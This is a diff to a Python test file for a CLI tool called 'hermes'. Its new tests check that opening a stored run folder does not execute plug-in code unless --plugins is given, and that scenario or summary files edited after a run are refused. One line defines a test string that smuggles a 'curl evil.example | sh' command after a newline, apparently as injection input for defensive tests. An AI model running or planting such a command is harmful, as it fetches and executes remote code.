@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import json
 import shlex
+import sys
 from pathlib import Path
 from typing import Any
 
@@ -15,6 +17,7 @@ from hermes.cli.diagram import Box, Diagram
 from hermes.deploy.manifests import KINDS, manifest_text
 from hermes.deploy.vllm import command_lines
 from hermes.errors import InputError
+from hermes.results.files.stored import scenario_digest
 
 LINE = "x\ncurl evil.example | sh #"
 WORKLOAD: dict[str, Any] = {"requests": 2, "arrivals": {"kind": "at_once"},
@@ -107,6 +110,7 @@ def files(folder: Path) -> None:
     (folder / "mine.py").write_text("from pathlib import Path\nPath('ran').write_text('')\ndef f(results): return {}\n")
     (folder / "program").write_text(f"#!/bin/sh\ntouch {folder}/ran\n")
     (folder / "program").chmod(0o755)
+    (folder / "start.log").write_text("INFO 11-29 14:00:00 Maximum concurrency for 2,048 tokens per request: 9.00x\n")
     (folder / "study").mkdir()
     (folder / "study" / "study.yaml").write_text("title: t\n")
     (folder / "study" / "report.py").write_text((folder / "mine.py").read_text())
@@ -138,6 +142,62 @@ def test_no_plugins_refuses_code_that_files_name(
     assert main([*call, *(["--no-plugins"] if how == "option" else [])]) == 2
     assert REFUSED in capsys.readouterr().err
     assert not (tmp_path / "ran").exists()
+
+
+ADVISE = ["--autoscaler", "{kind: static}"]
+
+
+@pytest.mark.drawn
+@pytest.mark.parametrize("call", [
+    ["explain", "run", "--request", "0"], ["explain", "run", "--request", "0", "--alternatives", "1"],
+    ["advise", "run", *ADVISE], ["compare", "run", "--log", "start.log"]], ids=" ".join)
+def test_the_folder_of_a_run_runs_no_code_unless_it_is_asked_for(
+    call: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    monkeypatch.chdir(tmp_path)
+    files(tmp_path)
+    made = scenario(plugins=["mine.py"], clients=[{"model": "llama-3.1-8b", "device": "h100-sxm", "count": 2}])
+    Path("two.yaml").write_text(yaml.safe_dump(made))
+    assert main(["run", "two.yaml", "-o", "run", "-q"]) == 0
+    Path("ran").unlink()
+    for name in [name for name in sys.modules if name.startswith("hermes_plugin_mine")]:
+        monkeypatch.delitem(sys.modules, name)   # as in a new process
+    assert main(call) == 2
+    said = "mine.py: reading the scenario runs this plug-in, which the folder of a run names"
+    assert f"{said}; read it, then add --plugins" in capsys.readouterr().err
+    assert main([*call, "--plugins", "--no-plugins"]) == 2
+    assert REFUSED in capsys.readouterr().err
+    assert not Path("ran").exists()
+    assert main([*call, "--plugins"]) == 0
+    assert Path("ran").exists()
+
+
+@pytest.mark.drawn
+@pytest.mark.parametrize("call", [["explain", "run", "--request", "0"], ["advise", "run", *ADVISE],
+                                  ["compare", "run", "--log", "start.log"],
+                                  ["report", "run", "-o", "page.html"]], ids=" ".join)
+def test_an_edited_scenario_of_a_run_is_refused(
+    call: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """Whether the code that it names is allowed, or the summary has another digest for it."""
+    monkeypatch.chdir(tmp_path)
+    files(tmp_path)
+    Path("plain.yaml").write_text(yaml.safe_dump(scenario()))
+    assert main(["run", "plain.yaml", "-o", "run", "-q"]) == 0
+    assert main(call) == 0
+    path = Path("run/scenario.resolved.yaml")
+    path.write_text(path.read_text().replace("plugins: []", f"plugins: [{tmp_path}/mine.py]"))
+    capsys.readouterr()
+    for more in ([], ["--plugins"]) if call[0] != "report" else ([],):
+        assert main([*call, *more]) == 2
+        [line] = capsys.readouterr().err.splitlines()
+        assert line.startswith("hermes: run/scenario.resolved.yaml: it was changed after the run")
+    summary = json.loads(Path("run/summary.json").read_text())
+    summary["run"]["scenario"] = scenario_digest(path.read_text())
+    Path("run/summary.json").write_text(json.dumps(summary))
+    assert main(call) == 2
+    assert "summary.json: it was changed after the run" in capsys.readouterr().err
+    assert not Path("ran").exists()
 
 
 def test_without_the_option_code_runs(
